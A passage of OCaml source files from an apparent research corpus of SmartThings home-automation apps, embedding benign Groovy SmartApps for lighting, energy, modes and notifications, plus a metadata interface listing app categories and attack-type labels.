    {|  subscribe(location, "mode", modeHandler)|}
    {|def modeHandler(evt) {
  sendPush("Home mode is now ${evt.value}")
}|}

let left_it_open =
  notification "LeftItOpen" "Nag me when the fridge is left open"
    {|  section("Watch this door...") {
    input "fridgeContact", "capability.contactSensor", title: "Which contact?"
  }|}
    {|  subscribe(fridgeContact, "contact.open", openHandler)|}
    {|def openHandler(evt) {
  runIn(300, checkStillOpen)
}

def checkStillOpen() {
  if (fridgeContact.currentContact == "open") {
    sendPush("The door is still open")
  }
}|}

let energy_report =
  entry ~controls_devices:false "EnergyReport" Notification 1
    {|
definition(name: "EnergyReport", description: "Send a nightly energy usage report")

preferences {
  section("Report on this meter...") {
    input "meter", "capability.energyMeter", title: "Which meter?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  schedule("0 0 21 * * ?", report)
}

def updated() {
  unschedule()
  schedule("0 0 21 * * ?", report)
}

def report() {
  def kwh = meter.currentEnergy
  sendSmsMessage(phone1, "Used ${kwh} kWh so far")
}
|}

let door_knocker =
  notification "DoorKnocker" "Know when someone knocks while the door stays closed"
    {|  section("Knock sensor...") {
    input "knockSensor", "capability.accelerationSensor", title: "Which sensor?"
    input "doorContact", "capability.contactSensor", title: "Door contact"
  }|}
    {|  subscribe(knockSensor, "acceleration.active", knockHandler)|}
    {|def knockHandler(evt) {
  if (doorContact.currentContact == "closed") {
    sendPush("Someone is knocking")
  }
}|}

let all =
  [
    notify_when_door_opens;
    notify_on_motion;
    temperature_alert;
    humidity_alert;
    power_alert;
    battery_monitor;
    presence_notify;
    smoke_notify;
    leak_notify;
    mode_change_notify;
    left_it_open;
    energy_report;
    door_knocker;
  ]
