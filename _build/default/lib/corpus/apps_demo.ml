(** The paper's five running-example SmartApps (Rules 1-5, §V).

    ComfortTV and ColdDefender exhibit the Actuator Race of Fig 3;
    CatchLiveShow covertly triggers ComfortTV (Fig 4); NightCare's
    delayed lamp-off disables BurglarFinder's condition (Fig 5). *)

open App_entry

(* Rule 1 (Fig 3): when the TV turns on, if the room is hotter than the
   threshold, open the window (the window opener is a switch). *)
let comfort_tv =
  entry "ComfortTV" Demo 1
    {|
definition(name: "ComfortTV", description: "Open the window opener when watching TV in a hot room")

preferences {
  section("Devices") {
    input "tv1", "capability.switch", title: "Which TV?"
    input "tSensor", "capability.temperatureMeasurement", title: "Temperature sensor"
    input "threshold1", "number", title: "Higher than?"
    input "window1", "capability.switch", title: "Window opener switch"
  }
}

def installed() {
  subscribe(tv1, "switch", onHandler)
}

def updated() {
  unsubscribe()
  subscribe(tv1, "switch", onHandler)
}

def onHandler(evt) {
  def t = tSensor.currentValue("temperature")
  if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}

def turnOnWindow() {
  if (window1.currentSwitch == "off")
    window1.on()
}
|}

(* Rule 2 (Fig 3): when the TV turns on, if it is raining, close the
   window. *)
let cold_defender =
  entry "ColdDefender" Demo 1
    {|
definition(name: "ColdDefender", description: "Close the window opener when it rains while the TV is on")

preferences {
  section("Devices") {
    input "tv2", "capability.switch", title: "Which TV?"
    input "wSensor", "capability.weatherSensor", title: "Weather source"
    input "window2", "capability.switch", title: "Window opener switch"
  }
}

def installed() {
  subscribe(tv2, "switch", rainHandler)
}

def updated() {
  unsubscribe()
  subscribe(tv2, "switch", rainHandler)
}

def rainHandler(evt) {
  if (evt.value == "on") {
    def w = wSensor.currentValue("weather")
    if (w == "rainy") {
      window2.off()
    }
  }
}
|}

(* Rule 3 (Fig 4): a voice message arriving home turns on the TV on
   Thursdays (to catch a live show). *)
let catch_live_show =
  entry "CatchLiveShow" Demo 1
    {|
definition(name: "CatchLiveShow", description: "Turn on the TV when a voice message is sent home on show day")

preferences {
  section("Devices") {
    input "voicePlayer", "capability.musicPlayer", title: "Voice message player"
    input "tv3", "capability.switch", title: "Which TV?"
  }
}

def installed() {
  subscribe(voicePlayer, "status", messageHandler)
}

def updated() {
  unsubscribe()
  subscribe(voicePlayer, "status", messageHandler)
}

def messageHandler(evt) {
  if (evt.value == "playing") {
    def day = dayOfWeek()
    if (day == "Thursday") {
      tv3.on()
    }
  }
}
|}

(* Rule 4 (Fig 5): motion at midnight while the floor lamp has been on
   raises the burglar alarm. *)
let burglar_finder =
  entry "BurglarFinder" Demo 1
    {|
definition(name: "BurglarFinder", description: "Sound the alarm on midnight motion while the floor lamp is on")

preferences {
  section("Devices") {
    input "motion1", "capability.motionSensor", title: "Motion sensor"
    input "floorLamp", "capability.switch", title: "Floor lamp"
    input "alarm1", "capability.alarm", title: "Burglar alarm"
  }
}

def installed() {
  subscribe(motion1, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(motion1, "motion.active", motionHandler)
}

def motionHandler(evt) {
  if ((location.mode == "Night") && (floorLamp.currentSwitch == "on")) {
    alarm1.siren()
  }
}
|}

(* Rule 5 (Fig 5): when the floor lamp turns on during sleep mode, turn
   it off after five minutes to save energy. *)
let night_care =
  entry "NightCare" Demo 1
    {|
definition(name: "NightCare", description: "Turn the floor lamp off after 5 minutes in sleep mode")

preferences {
  section("Devices") {
    input "lamp5", "capability.switch", title: "Floor lamp"
  }
}

def installed() {
  subscribe(lamp5, "switch.on", lampHandler)
}

def updated() {
  unsubscribe()
  subscribe(lamp5, "switch.on", lampHandler)
}

def lampHandler(evt) {
  if (location.mode == "Night") {
    runIn(300, turnOffLamp)
  }
}

def turnOffLamp() {
  lamp5.off()
}
|}

let all = [ comfort_tv; cold_defender; catch_live_show; burglar_finder; night_care ]
