(** Corpus entry metadata: source, category, manual ground truth. *)

type attack =
  | Malicious_control
  | Abusing_permission
  | Adware
  | Spyware
  | Ransomware
  | Remote_control
  | Ipc_collusion
  | Shadow_payload
  | Endpoint_attack
  | App_update

val attack_to_string : attack -> string

type category =
  | Demo
  | Lighting
  | Climate
  | Security
  | Energy
  | Convenience
  | Modes
  | Safety
  | Notification
  | Web_service
  | Malicious of attack

val category_to_string : category -> string

type t = {
  name : string;
  category : category;
  source : string;
  ground_truth_rules : int;  (** -1 for web-services apps *)
  controls_devices : bool;
}

val entry : ?controls_devices:bool -> string -> category -> int -> string -> t
