(** Mode-automation SmartApps: apps that read or set the location mode —
    the group Fig 8 shows is involved in every threat category. *)

open App_entry

let good_night =
  entry "GoodNight" Modes 1
    {|
definition(name: "GoodNight", description: "Tap to put the house to sleep: Night mode and all lights off")

preferences {
  section("Turn off these lights...") {
    input "houseLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(app, "appTouch", goodNightHandler)
}

def updated() {
  unsubscribe()
  subscribe(app, "appTouch", goodNightHandler)
}

def goodNightHandler(evt) {
  setLocationMode("Night")
  houseLights.off()
}
|}

let rise_and_shine =
  entry "RiseAndShine" Modes 1
    {|
definition(name: "RiseAndShine", description: "Switch to Home mode on the first morning motion")

preferences {
  section("Watch for morning motion...") {
    input "bedroomMotion", "capability.motionSensor", title: "Where?"
  }
}

def installed() {
  subscribe(bedroomMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(bedroomMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  if (location.mode == "Night") {
    setLocationMode("Home")
  }
}
|}

let bon_voyage =
  entry "BonVoyage" Modes 1
    {|
definition(name: "BonVoyage", description: "Set Away mode when a presence sensor leaves")

preferences {
  section("When this person leaves...") {
    input "traveler", "capability.presenceSensor", title: "Who?"
  }
}

def installed() {
  subscribe(traveler, "presence.not present", departedHandler)
}

def updated() {
  unsubscribe()
  subscribe(traveler, "presence.not present", departedHandler)
}

def departedHandler(evt) {
  setLocationMode("Away")
}
|}

let scheduled_mode_change =
  entry "ScheduledModeChange" Modes 1
    {|
definition(name: "ScheduledModeChange", description: "Change the home mode at a fixed time every day")

preferences {
  section("Switch to this mode...") {
    input "targetMode", "mode", title: "Which mode?"
  }
}

def installed() {
  schedule("0 0 23 * * ?", changeMode)
}

def updated() {
  unschedule()
  schedule("0 0 23 * * ?", changeMode)
}

def changeMode() {
  setLocationMode(targetMode)
}
|}

let sunset_mode =
  entry "SunsetMode" Modes 1
    {|
definition(name: "SunsetMode", description: "Switch the home to Night mode at sunset")

def installed() {
  subscribe(location, "sunset", sunsetHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunset", sunsetHandler)
}

def sunsetHandler(evt) {
  setLocationMode("Night")
}
|}

let mode_based_thermostat =
  entry "ModeBasedThermostat" Modes 2
    {|
definition(name: "ModeBasedThermostat", description: "Set thermostat setpoints whenever the home changes mode")

preferences {
  section("Control this thermostat...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
    input "homeHeat", "number", title: "Home heating setpoint?"
    input "awayHeat", "number", title: "Away heating setpoint?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Home") {
    mainThermostat.setHeatingSetpoint(homeHeat)
  } else {
    if (evt.value == "Away") {
      mainThermostat.setHeatingSetpoint(awayHeat)
    }
  }
}
|}

let quiet_time =
  entry "QuietTime" Modes 1
    {|
definition(name: "QuietTime", description: "Stop the speakers when the home enters Night mode")

preferences {
  section("Silence these speakers...") {
    input "speakers", "capability.musicPlayer", multiple: true, title: "Which speakers?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    speakers.stop()
  }
}
|}

let movie_time =
  entry "MovieTime" Modes 1
    {|
definition(name: "MovieTime", description: "Dim the room when the TV comes on in the evening")

preferences {
  section("When this TV turns on...") {
    input "livingTv", "capability.switch", title: "Which TV?"
  }
  section("Turn off these lights...") {
    input "movieLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(livingTv, "switch.on", tvOnHandler)
}

def updated() {
  unsubscribe()
  subscribe(livingTv, "switch.on", tvOnHandler)
}

def tvOnHandler(evt) {
  if (location.mode == "Home") {
    movieLights.off()
  }
}
|}

let party_mode =
  entry "PartyMode" Modes 1
    {|
definition(name: "PartyMode", description: "One tap: lights on, music playing")

preferences {
  section("Party gear...") {
    input "partyLights", "capability.switch", multiple: true, title: "Which lights?"
    input "partySpeaker", "capability.musicPlayer", title: "Which speaker?"
  }
}

def installed() {
  subscribe(app, "appTouch", partyHandler)
}

def updated() {
  unsubscribe()
  subscribe(app, "appTouch", partyHandler)
}

def partyHandler(evt) {
  partyLights.on()
  partySpeaker.play()
}
|}

let vacation_lighting_director =
  entry "VacationLightingDirector" Modes 1
    {|
definition(name: "VacationLightingDirector", description: "Fake occupancy with lights while in Away mode")

preferences {
  section("Cycle these lights...") {
    input "fakeLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  runEvery30Minutes(cycleLights)
}

def updated() {
  unschedule()
  runEvery30Minutes(cycleLights)
}

def cycleLights() {
  if (location.mode == "Away") {
    fakeLights.on()
    runIn(600, cycleOff)
  }
}

def cycleOff() {
  fakeLights.off()
}
|}

let all =
  [
    good_night;
    rise_and_shine;
    bon_voyage;
    scheduled_mode_change;
    sunset_mode;
    mode_based_thermostat;
    quiet_time;
    movie_time;
    party_mode;
    vacation_lighting_director;
  ]
