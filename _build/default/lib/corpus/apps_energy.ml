(** Energy-management SmartApps. Energy Saver is the app that disables
    It's Too Hot in the paper's Self-Disabling case: turning on the air
    conditioner is "the last straw" that pushes consumption over the
    user's threshold (§VIII-B item 5). *)

open App_entry

let energy_saver =
  entry "EnergySaver" Energy 1
    {|
definition(name: "EnergySaver", description: "Turn appliances off when real-time electricity usage exceeds a threshold")

preferences {
  section("Monitor this power meter...") {
    input "powerMeter", "capability.powerMeter", title: "Which meter?"
    input "wattLimit", "number", title: "Limit (W)?"
  }
  section("Turn off these devices...") {
    input "hungryDevices", "capability.switch", multiple: true, title: "Which devices?"
  }
}

def installed() {
  subscribe(powerMeter, "power", powerHandler)
}

def updated() {
  unsubscribe()
  subscribe(powerMeter, "power", powerHandler)
}

def powerHandler(evt) {
  def watts = evt.integerValue
  if (watts > wattLimit) {
    hungryDevices.off()
  }
}
|}

let lights_out_when_bright =
  entry "LightsOutWhenBright" Energy 1
    {|
definition(name: "LightsOutWhenBright", description: "Save energy by turning lights off when there is plenty of daylight")

preferences {
  section("Monitor the luminosity...") {
    input "luxSensor", "capability.illuminanceMeasurement", title: "Where?"
    input "brightLimit", "number", title: "Brighter than?"
  }
  section("Turn off these lights...") {
    input "dayLights", "capability.switch", multiple: true, title: "Which lights?"
  }
}

def installed() {
  subscribe(luxSensor, "illuminance", luxHandler)
}

def updated() {
  unsubscribe()
  subscribe(luxSensor, "illuminance", luxHandler)
}

def luxHandler(evt) {
  if (evt.integerValue > brightLimit) {
    dayLights.off()
  }
}
|}

let standby_killer =
  entry "StandbyKiller" Energy 1
    {|
definition(name: "StandbyKiller", description: "Kill standby power by switching entertainment outlets off every night")

preferences {
  section("Turn off these outlets...") {
    input "standbyOutlets", "capability.switch", multiple: true, title: "Which outlets?"
  }
}

def installed() {
  schedule("0 0 23 * * ?", killStandby)
}

def updated() {
  unschedule()
  schedule("0 0 23 * * ?", killStandby)
}

def killStandby() {
  standbyOutlets.off()
}
|}

let green_mode =
  entry "GreenMode" Energy 1
    {|
definition(name: "GreenMode", description: "Cut power hogs and lower heating when everyone is away")

preferences {
  section("Turn off these devices...") {
    input "powerHogs", "capability.switch", multiple: true, title: "Which devices?"
  }
  section("Lower this thermostat...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
    input "awayTemp", "number", title: "Away heating setpoint?"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Away") {
    powerHogs.off()
    mainThermostat.setHeatingSetpoint(awayTemp)
  }
}
|}

let power_allowance =
  entry "PowerAllowance" Energy 1
    {|
definition(name: "PowerAllowance", description: "Turn a switch off N minutes after it is turned on, every time")

preferences {
  section("When this switch turns on...") {
    input "allowanceSwitch", "capability.switch", title: "Which switch?"
  }
}

def installed() {
  subscribe(allowanceSwitch, "switch.on", switchOnHandler)
}

def updated() {
  unsubscribe()
  subscribe(allowanceSwitch, "switch.on", switchOnHandler)
}

def switchOnHandler(evt) {
  runIn(1800, turnOffAllowance)
}

def turnOffAllowance() {
  allowanceSwitch.off()
}
|}

let power_spike_responder =
  entry "PowerSpikeResponder" Energy 1
    {|
definition(name: "PowerSpikeResponder", description: "Shut down the space heater and warn me when power spikes")

preferences {
  section("Monitor this power meter...") {
    input "meter", "capability.powerMeter", title: "Which meter?"
    input "spikeLimit", "number", title: "Spike above (W)?"
  }
  section("Shut down...") {
    input "heaterSwitch", "capability.switch", title: "Space heater"
    input "phone1", "phone", title: "Warn this phone"
  }
}

def installed() {
  subscribe(meter, "power", powerHandler)
}

def updated() {
  unsubscribe()
  subscribe(meter, "power", powerHandler)
}

def powerHandler(evt) {
  if (evt.integerValue > spikeLimit) {
    heaterSwitch.off()
    sendSmsMessage(phone1, "Power spike detected, heater shut down")
  }
}
|}

let off_peak_laundry =
  entry "OffPeakLaundry" Energy 2
    {|
definition(name: "OffPeakLaundry", description: "Only let the washer outlet run during off-peak hours")

preferences {
  section("Washer outlet...") {
    input "washerOutlet", "capability.switch", title: "Which outlet?"
  }
}

def installed() {
  schedule("0 0 22 * * ?", enableWasher)
  schedule("0 0 6 * * ?", disableWasher)
}

def updated() {
  unschedule()
  schedule("0 0 22 * * ?", enableWasher)
  schedule("0 0 6 * * ?", disableWasher)
}

def enableWasher() {
  washerOutlet.on()
}

def disableWasher() {
  washerOutlet.off()
}
|}

let all =
  [
    energy_saver;
    lights_out_when_bright;
    standby_killer;
    green_mode;
    power_allowance;
    power_spike_responder;
    off_peak_laundry;
  ]
