(** Additional public-repo-style SmartApps that round the corpus out to
    the paper's scale: more lighting/presence/notification variants and
    the long tail of single-purpose automations. *)

open App_entry

let bright_when_cloudy =
  entry "BrightWhenCloudy" Lighting 2
    {|
definition(name: "BrightWhenCloudy", description: "Raise the dimmer when clouds roll in, dim when it clears")

preferences {
  section("Watch the light level...") {
    input "outdoorLux", "capability.illuminanceMeasurement", title: "Where?"
  }
  section("Adjust this dimmer light...") {
    input "deskDimmer", "capability.switchLevel", title: "Which dimmer?"
  }
}

def installed() {
  subscribe(outdoorLux, "illuminance", luxHandler)
}

def updated() {
  unsubscribe()
  subscribe(outdoorLux, "illuminance", luxHandler)
}

def luxHandler(evt) {
  def lux = evt.integerValue
  if (lux < 200) {
    deskDimmer.setLevel(90)
  } else {
    deskDimmer.setLevel(30)
  }
}
|}

let hall_light_on_arrival =
  entry "HallLightOnArrival" Lighting 1
    {|
definition(name: "HallLightOnArrival", description: "Light the hallway when the front door opens after dark")

preferences {
  section("Front door...") {
    input "frontDoor", "capability.contactSensor", title: "Which contact?"
  }
  section("And it is dark...") {
    input "hallLux", "capability.illuminanceMeasurement", title: "Light sensor"
  }
  section("Light this lamp...") {
    input "hallLamp", "capability.switch", title: "Hall lamp"
  }
}

def installed() {
  subscribe(frontDoor, "contact.open", doorHandler)
}

def updated() {
  unsubscribe()
  subscribe(frontDoor, "contact.open", doorHandler)
}

def doorHandler(evt) {
  if (hallLux.currentIlluminance < 40) {
    hallLamp.on()
  }
}
|}

let closet_light =
  entry "ClosetLight" Lighting 2
    {|
definition(name: "ClosetLight", description: "Closet light follows the closet door")

preferences {
  section("Closet door...") {
    input "closetDoor", "capability.contactSensor", title: "Which contact?"
  }
  section("Closet light...") {
    input "closetLight", "capability.switch", title: "Which light?"
  }
}

def installed() {
  subscribe(closetDoor, "contact", doorHandler)
}

def updated() {
  unsubscribe()
  subscribe(closetDoor, "contact", doorHandler)
}

def doorHandler(evt) {
  if (evt.value == "open") {
    closetLight.on()
  } else {
    closetLight.off()
  }
}
|}

let night_path_dimmer =
  entry "NightPathDimmer" Lighting 1
    {|
definition(name: "NightPathDimmer", description: "Dim hallway light softly for midnight walks")

preferences {
  section("When motion at night...") {
    input "hallMotion", "capability.motionSensor", title: "Where?"
  }
  section("Dim this light...") {
    input "pathDimmer", "capability.switchLevel", title: "Which dimmer light?"
  }
}

def installed() {
  subscribe(hallMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(hallMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  if (location.mode == "Night") {
    pathDimmer.setLevel(15)
  }
}
|}

let single_button_controller =
  entry "SingleButtonController" Convenience 2
    {|
definition(name: "SingleButtonController", description: "A button toggles a switch: push on, hold off")

preferences {
  section("Button...") {
    input "remoteButton", "capability.button", title: "Which button?"
  }
  section("Control this switch...") {
    input "controlled", "capability.switch", title: "Which switch?"
  }
}

def installed() {
  subscribe(remoteButton, "button", buttonHandler)
}

def updated() {
  unsubscribe()
  subscribe(remoteButton, "button", buttonHandler)
}

def buttonHandler(evt) {
  if (evt.value == "pushed") {
    controlled.on()
  } else {
    if (evt.value == "held") {
      controlled.off()
    }
  }
}
|}

let thermostat_window_check =
  entry "ThermostatWindowCheck" Climate 1
    {|
definition(name: "ThermostatWindowCheck", description: "Pause heating when a window contact opens")

preferences {
  section("Watch these windows...") {
    input "windowContact", "capability.contactSensor", title: "Which contact?"
  }
  section("Pause this thermostat...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
  }
}

def installed() {
  subscribe(windowContact, "contact.open", openHandler)
}

def updated() {
  unsubscribe()
  subscribe(windowContact, "contact.open", openHandler)
}

def openHandler(evt) {
  mainThermostat.off()
}
|}

let resume_heating =
  entry "ResumeHeating" Climate 1
    {|
definition(name: "ResumeHeating", description: "Resume heating when the window closes again")

preferences {
  section("Watch these windows...") {
    input "windowContact", "capability.contactSensor", title: "Which contact?"
  }
  section("Resume this thermostat...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
  }
}

def installed() {
  subscribe(windowContact, "contact.closed", closedHandler)
}

def updated() {
  unsubscribe()
  subscribe(windowContact, "contact.closed", closedHandler)
}

def closedHandler(evt) {
  mainThermostat.heat()
}
|}

let too_cold_valve =
  entry "TooColdValveShutoff" Safety 1
    {|
definition(name: "TooColdValveShutoff", description: "Shut the water main before pipes freeze")

preferences {
  section("Pipe temperature...") {
    input "pipeTemp", "capability.temperatureMeasurement", title: "Where?"
  }
  section("Shut this valve...") {
    input "mainValve", "capability.valve", title: "Which valve?"
  }
}

def installed() {
  subscribe(pipeTemp, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(pipeTemp, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue < 33) {
    mainValve.close()
  }
}
|}

let garage_left_open =
  entry "GarageLeftOpen" Security 1
    {|
definition(name: "GarageLeftOpen", description: "Close the garage door if it sits open too long")

preferences {
  section("Garage door...") {
    input "garageDoor", "capability.garageDoorControl", title: "Which door?"
  }
}

def installed() {
  subscribe(garageDoor, "door.open", openHandler)
}

def updated() {
  unsubscribe()
  subscribe(garageDoor, "door.open", openHandler)
}

def openHandler(evt) {
  runIn(900, closeIfStillOpen)
}

def closeIfStillOpen() {
  if (garageDoor.currentDoor == "open") {
    garageDoor.close()
  }
}
|}

let shade_against_heat =
  entry "ShadeAgainstHeat" Climate 1
    {|
definition(name: "ShadeAgainstHeat", description: "Drop the shades when the room overheats in the sun")

preferences {
  section("Room temperature...") {
    input "roomTemp", "capability.temperatureMeasurement", title: "Where?"
    input "shadePoint", "number", title: "Above?"
  }
  section("Close this shade...") {
    input "sunShade", "capability.windowShade", title: "Which shade?"
  }
}

def installed() {
  subscribe(roomTemp, "temperature", temperatureHandler)
}

def updated() {
  unsubscribe()
  subscribe(roomTemp, "temperature", temperatureHandler)
}

def temperatureHandler(evt) {
  if (evt.integerValue > shadePoint) {
    sunShade.close()
  }
}
|}

let workout_playlist =
  entry "WorkoutPlaylist" Convenience 1
    {|
definition(name: "WorkoutPlaylist", description: "Start the workout playlist when the basement gets busy")

preferences {
  section("Basement motion...") {
    input "gymMotion", "capability.motionSensor", title: "Where?"
  }
  section("Play on...") {
    input "gymSpeaker", "capability.musicPlayer", title: "Which speaker?"
  }
}

def installed() {
  subscribe(gymMotion, "motion.active", motionHandler)
}

def updated() {
  unsubscribe()
  subscribe(gymMotion, "motion.active", motionHandler)
}

def motionHandler(evt) {
  if (location.mode == "Home") {
    gymSpeaker.play()
  }
}
|}

let quiet_after_hours =
  entry "QuietAfterHours" Convenience 1
    {|
definition(name: "QuietAfterHours", description: "Mute the speakers on a curfew schedule")

preferences {
  section("Mute these speakers...") {
    input "speakers", "capability.musicPlayer", multiple: true, title: "Which speakers?"
  }
}

def installed() {
  schedule("0 30 22 * * ?", curfew)
}

def updated() {
  unschedule()
  schedule("0 30 22 * * ?", curfew)
}

def curfew() {
  speakers.mute()
}
|}

let seasonal_color =
  entry "SeasonalColor" Lighting 1
    {|
definition(name: "SeasonalColor", description: "Set the accent bulb color every evening")

preferences {
  section("Accent bulb...") {
    input "accentBulb", "capability.colorControl", title: "Which bulb?"
  }
}

def installed() {
  schedule("0 0 18 * * ?", paint)
}

def updated() {
  unschedule()
  schedule("0 0 18 * * ?", paint)
}

def paint() {
  accentBulb.setColor("purple")
}
|}

let warm_white_evening =
  entry "WarmWhiteEvening" Lighting 1
    {|
definition(name: "WarmWhiteEvening", description: "Shift color temperature warm at sunset")

preferences {
  section("Tunable bulb...") {
    input "tunableBulb", "capability.colorTemperature", title: "Which bulb?"
  }
}

def installed() {
  subscribe(location, "sunset", sunsetHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunset", sunsetHandler)
}

def sunsetHandler(evt) {
  tunableBulb.setColorTemperature(2700)
}
|}

let knock_to_photo =
  entry "KnockToPhoto" Security 1
    {|
definition(name: "KnockToPhoto", description: "Photograph whoever knocks while nobody is home")

preferences {
  section("Knock sensor...") {
    input "doorKnock", "capability.accelerationSensor", title: "Which sensor?"
  }
  section("Camera...") {
    input "doorCamera", "capability.imageCapture", title: "Which camera?"
  }
}

def installed() {
  subscribe(doorKnock, "acceleration.active", knockHandler)
}

def updated() {
  unsubscribe()
  subscribe(doorKnock, "acceleration.active", knockHandler)
}

def knockHandler(evt) {
  if (location.mode == "Away") {
    doorCamera.take()
  }
}
|}

let step_goal_celebration =
  entry ~controls_devices:false "StepGoalCelebration" Notification 1
    {|
definition(name: "StepGoalCelebration", description: "Congratulate me when I hit my step goal")

preferences {
  section("Step tracker...") {
    input "steps", "capability.stepSensor", title: "Which tracker?"
    input "goal", "number", title: "Step goal?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(steps, "steps", stepHandler)
}

def updated() {
  unsubscribe()
  subscribe(steps, "steps", stepHandler)
}

def stepHandler(evt) {
  if (evt.integerValue > goal) {
    sendSmsMessage(phone1, "Step goal reached!")
  }
}
|}

let sunrise_report =
  entry ~controls_devices:false "SunriseReport" Notification 1
    {|
definition(name: "SunriseReport", description: "Morning weather text at sunrise")

preferences {
  section("Weather source...") {
    input "wSensor", "capability.weatherSensor", title: "Weather tile"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(location, "sunrise", sunriseHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunrise", sunriseHandler)
}

def sunriseHandler(evt) {
  def w = wSensor.currentWeather
  sendSmsMessage(phone1, "Good morning! Weather: ${w}")
}
|}

let door_left_unlocked =
  entry ~controls_devices:false "DoorLeftUnlocked" Notification 1
    {|
definition(name: "DoorLeftUnlocked", description: "Warn me if the door is unlocked at bedtime")

preferences {
  section("Watch this lock...") {
    input "frontLock", "capability.lock", title: "Which lock?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  schedule("0 0 23 * * ?", bedtimeCheck)
}

def updated() {
  unschedule()
  schedule("0 0 23 * * ?", bedtimeCheck)
}

def bedtimeCheck() {
  if (frontLock.currentLock == "unlocked") {
    sendPush("The front door is still unlocked")
  }
}
|}

let laundry_done =
  entry ~controls_devices:false "LaundryDone" Notification 1
    {|
definition(name: "LaundryDone", description: "Tell me when the washer stops shaking")

preferences {
  section("Washer sensor...") {
    input "washerShake", "capability.accelerationSensor", title: "Which sensor?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(washerShake, "acceleration.inactive", stillHandler)
}

def updated() {
  unsubscribe()
  subscribe(washerShake, "acceleration.inactive", stillHandler)
}

def stillHandler(evt) {
  runIn(120, confirmDone)
}

def confirmDone() {
  if (washerShake.currentAcceleration == "inactive") {
    sendPush("Laundry is done")
  }
}
|}

let curfew_mode =
  entry "CurfewMode" Modes 1
    {|
definition(name: "CurfewMode", description: "Force Night mode at curfew on school nights")

def installed() {
  schedule("0 0 22 * * ?", curfew)
}

def updated() {
  unschedule()
  schedule("0 0 22 * * ?", curfew)
}

def curfew() {
  if (location.mode == "Home") {
    setLocationMode("Night")
  }
}
|}

let holiday_inflatables =
  entry "HolidayInflatables" Lighting 2
    {|
definition(name: "HolidayInflatables", description: "Inflate the lawn decorations in the evening, deflate late")

preferences {
  section("Decoration outlet...") {
    input "lawnOutlet", "capability.switch", title: "Which outlet?"
  }
}

def installed() {
  schedule("0 0 17 * * ?", inflate)
  schedule("0 0 22 * * ?", deflate)
}

def updated() {
  unschedule()
  schedule("0 0 17 * * ?", inflate)
  schedule("0 0 22 * * ?", deflate)
}

def inflate() {
  lawnOutlet.on()
}

def deflate() {
  lawnOutlet.off()
}
|}

let everyone_sleeps_lock =
  entry "EveryoneSleepsLock" Security 1
    {|
definition(name: "EveryoneSleepsLock", description: "Lock up and arm when the home goes quiet at night")

preferences {
  section("Lock these...") {
    input "doors", "capability.lock", multiple: true, title: "Which locks?"
    input "nightAlarm", "capability.alarm", title: "Arm this alarm"
  }
}

def installed() {
  subscribe(location, "mode", modeHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "mode", modeHandler)
}

def modeHandler(evt) {
  if (evt.value == "Night") {
    doors.lock()
  }
}
|}

let pet_door_watch =
  entry ~controls_devices:false "PetDoorWatch" Notification 1
    {|
definition(name: "PetDoorWatch", description: "Count the pet door swings while we are out")

preferences {
  section("Pet door sensor...") {
    input "petFlap", "capability.contactSensor", title: "Which contact?"
    input "phone1", "phone", title: "Phone number?"
  }
}

def installed() {
  subscribe(petFlap, "contact.open", flapHandler)
}

def updated() {
  unsubscribe()
  subscribe(petFlap, "contact.open", flapHandler)
}

def flapHandler(evt) {
  state.count = state.count + 1
  if (location.mode == "Away") {
    sendPush("Pet door used ${state.count} times today")
  }
}
|}

let dawn_chicken_coop =
  entry "DawnChickenCoop" Convenience 2
    {|
definition(name: "DawnChickenCoop", description: "Open the coop door at sunrise, close it at sunset")

preferences {
  section("Coop door...") {
    input "coopDoor", "capability.doorControl", title: "Which door?"
  }
}

def installed() {
  subscribe(location, "sunrise", sunriseHandler)
  subscribe(location, "sunset", sunsetHandler)
}

def updated() {
  unsubscribe()
  subscribe(location, "sunrise", sunriseHandler)
  subscribe(location, "sunset", sunsetHandler)
}

def sunriseHandler(evt) {
  coopDoor.open()
}

def sunsetHandler(evt) {
  coopDoor.close()
}
|}

let welcome_heat =
  entry "WelcomeHeat" Climate 1
    {|
definition(name: "WelcomeHeat", description: "Warm the house up when someone is on the way home")

preferences {
  section("When someone arrives...") {
    input "anyPresence", "capability.presenceSensor", title: "Whose sensor?"
  }
  section("Warm with...") {
    input "mainThermostat", "capability.thermostat", title: "Thermostat"
    input "comfortTemp", "number", title: "Setpoint?"
  }
}

def installed() {
  subscribe(anyPresence, "presence.present", arrivalHandler)
}

def updated() {
  unsubscribe()
  subscribe(anyPresence, "presence.present", arrivalHandler)
}

def arrivalHandler(evt) {
